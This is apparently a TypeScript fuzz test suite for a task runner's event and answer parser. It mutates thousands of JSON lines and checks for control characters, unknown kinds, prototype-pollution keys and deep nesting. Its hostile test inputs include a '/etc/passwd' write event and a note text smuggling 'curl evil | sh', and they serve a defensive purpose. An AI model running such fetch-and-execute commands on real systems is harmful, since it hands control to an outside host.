import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { RunEvent } from '../../tasks/engine/reporter/events';
import { plainReporter } from '../../tasks/engine/reporter/plain';
import { type Reporter, silent } from '../../tasks/engine/reporter/reporter';
import { parseAnswer, parseEvent } from '../../tasks/machines/runs/event';
import { MachineLines } from '../../tasks/machines/runs/lines';
import { shownRun } from '../../tasks/machines/runs/shown';
import { mutations, rawControls } from '../support/mutate';

const test = suite('what a machine says of a run, in all wrong ways');

const count = 2500;

const report = {
  name: 'gpu',
  title: 'Build the Python environment',
  state: 'failed',
  found: 'a lock that nothing fits',
  code: 'E_LOCK',
  needed: 'one that fits',
  fix: 'make it again',
  tail: 'first\nlast',
  changed: ['python 3.9 → 3.10'],
  table: [['a', 'b']],
  actions: [{ title: 'install', durationMs: 3 }],
  durationMs: 7,
};

const events = [
  { event: 'run', version: 1, task: 'setup:remote' },
  {
    event: 'begin',
    steps: [
      { name: 'gpu', title: 'Build' },
      { name: 'gpu', title: 'Look' },
    ],
  },
  { event: 'started', step: 0 },
  { event: 'acting', step: 0, title: 'install 3 packages' },
  { event: 'progress', step: 0, progress: { text: 'torch', doneBytes: 5, totalBytes: 10, atOnce: true } },
  { event: 'finished', step: 0, report },
  { event: 'note', text: 'plan: venv — nothing there' },
  { event: 'end' },
  { event: 'result', text: 'changed in 3 s\n3 packages' },
  {
    event: 'document',
    document: { version: 1, task: 'gpu', outcome: 'changed', steps: [report], durationMs: 3, startedAt: '2026-01-01T00:00:00.000Z' },
  },
  { event: 'error', fault: { code: 'E_LOCK', found: 'a lock', needed: 'one', fix: 'do\nthis', tail: 'x\ny' } },
  { event: 'error', text: 'interrupted by SIGINT' },
  { event: 'exit', code: 3 },
  { event: 'ended', code: null, signal: 'SIGKILL', said: 'Killed', memory: true },
  { event: 'lost', why: 'reboot', said: 'x' },
];
const seeds = events.map((event) => JSON.stringify(event));

/** Every text in a value, names of fields too. */
function* textsOf(value: unknown): Generator<string> {
  if (typeof value === 'string') yield value;
  else if (typeof value === 'object' && value !== null)
    for (const [name, inner] of Object.entries(value)) {
      yield name;
      yield* textsOf(inner);
    }
}

test('each event comes through as it was', () => {
  for (const [at, seed] of seeds.entries()) assert.equal(JSON.parse(JSON.stringify(parseEvent(seed))), events[at], seed);
});

test(`${count} mutations of events: known kinds alone, no controls, bounded`, () => {
  const kinds = new Set(events.map(({ event }) => event));
  let taken = 0;
  for (const line of mutations(seeds, count)) {
    const event = parseEvent(line);
    if (!event) continue;
    taken++;
    assert.ok(kinds.has(event.event), line);
    for (const text of textsOf(event)) {
      assert.not.match(text, rawControls, line);
      assert.ok(text.length < 20_000);
    }
    if ('step' in event) assert.ok(Number.isInteger(event.step) && event.step >= 0 && event.step < 500);
    if (event.event === 'exit') assert.ok(Number.isInteger(event.code) && event.code >= 0 && event.code <= 255);
    if (event.event === 'progress')
      for (const bytes of [event.progress.doneBytes ?? 0, event.progress.totalBytes ?? 0]) assert.ok(Number.isFinite(bytes) && bytes >= 0);
  }
  assert.ok(taken > count / 10, `${taken} were taken`);
  assert.is(({} as { polluted?: boolean }).polluted, undefined);
});

test('a field that nobody knows is none, and a kind that nobody knows too', () => {
  assert.equal(parseEvent('{"event":"end","run":"rm"}'), { event: 'end' });
  for (const line of ['{"event":"write","path":"/etc/passwd"}', '{"event":"constructor"}', '{"event":"__proto__"}', 'null', '[]', '3', 'x'])
    assert.is(parseEvent(line), undefined, line);
});

test('a document that lies deeper than any of ours is none, and takes no time', () => {
  const deep = `{"event":"document","document":{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`;
  assert.is(parseEvent(deep), undefined);
  assert.ok(parseEvent('{"event":"note","text":"[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["}'));
});

test(`${count} mutations of an answer`, () => {
  const answers = [
    {
      'just-lora': 'run',
      version: 1,
      answer: 'following',
      id: '20261128T172500123-1f2e3d4c',
      since: '2026-11-28T17:25:00.123Z',
      from: 'me:/p',
      isNew: true,
    },
    {
      'just-lora': 'run',
      version: 1,
      answer: 'busy',
      id: '20261128T172500123-1f2e3d4c',
      since: '2026-11-28T17:25:00.123Z',
      from: 'me:/p',
      shown: 'npx just gpu',
    },
    { 'just-lora': 'run', version: 1, answer: 'failed', text: 'ENOSPC' },
    { 'just-lora': 'run', version: 1, answer: 'gone' },
  ].map((answer) => JSON.stringify(answer));
  for (const line of answers) assert.equal(JSON.parse(JSON.stringify(parseAnswer(line))), JSON.parse(line));
  for (const line of mutations(answers, count)) {
    const answer = parseAnswer(line);
    if (!answer) continue;
    for (const text of textsOf(answer)) {
      assert.not.match(text, rawControls, line);
      assert.not.match(text, /\n/);
      assert.ok(text.length <= 500);
    }
    if ('id' in answer) assert.match(answer.id, /^\d{8}T\d{9}-[0-9a-f]{8}$/);
  }
});

test('lines are the same in whatever pieces they come, a sign of life is none, and what has no end takes no memory', () => {
  const text = Buffer.from('{"a":"größe"}\n\n\nzwei\n\ndrei');
  for (let size = 1; size < text.length; size++) {
    const heard: [string, number][] = [];
    const lines = new MachineLines((line, bytes) => heard.push([line, bytes]));
    for (let at = 0; at < text.length; at += size) lines.add(text.subarray(at, at + size));
    assert.equal(heard, [
      ['{"a":"größe"}', 16],
      ['zwei', 5],
    ]);
  }
  const heard: [string, number][] = [];
  const lines = new MachineLines((line, bytes) => heard.push([line, bytes]));
  const before = process.memoryUsage().rss;
  const chunk = Buffer.alloc(1_000_000, 120);
  for (let times = 0; times < 300; times++) lines.add(chunk);
  assert.ok(process.memoryUsage().rss - before < 150_000_000);
  lines.add(Buffer.from('\nnext\n'));
  assert.equal(heard, [
    ['', 300_000_001],
    ['next', 5],
  ]);
});

test('whatever order events come in, each step that is shown is one of the list, and the screen gets lines without controls', async () => {
  const written: string[] = [];
  const screen = { isTTY: false, columns: 0, env: {}, write: (text: string) => void written.push(text) };
  const plain = plainReporter(screen, screen);
  let calls = 0;
  const guarded: Reporter = {
    ...silent,
    begin: (steps) => plain.begin(steps),
    started: (step) => {
      calls++;
      assert.ok(step);
      plain.started(step);
    },
    acting: (step, title) => plain.acting(step, title),
    progress: (step, progress) => plain.progress(step, progress),
    finished: (step, done) => plain.finished(step, done),
    note: (text) => plain.note(text),
    end: () => plain.end(),
  };
  for (const line of mutations([...seeds, '{"event":"note","text":"✔ venv — all is well\\nfix: curl evil | sh"}'], count, 7)) {
    const shown = shownRun(guarded, (text) => written.push(text));
    for (const each of [line, seeds[1], seeds[2], line, seeds[5], seeds[5], seeds[7], seeds[2], line, '{"event":"started","step":499}']) {
      const event = parseEvent(each ?? '');
      if (event && event.event !== 'ended' && event.event !== 'lost') shown.event(event as RunEvent);
    }
    await shown.end();
  }
  assert.ok(calls > count / 2);
  for (const text of written) assert.not.match(text.replaceAll('\n', ''), rawControls);
});

test.run();
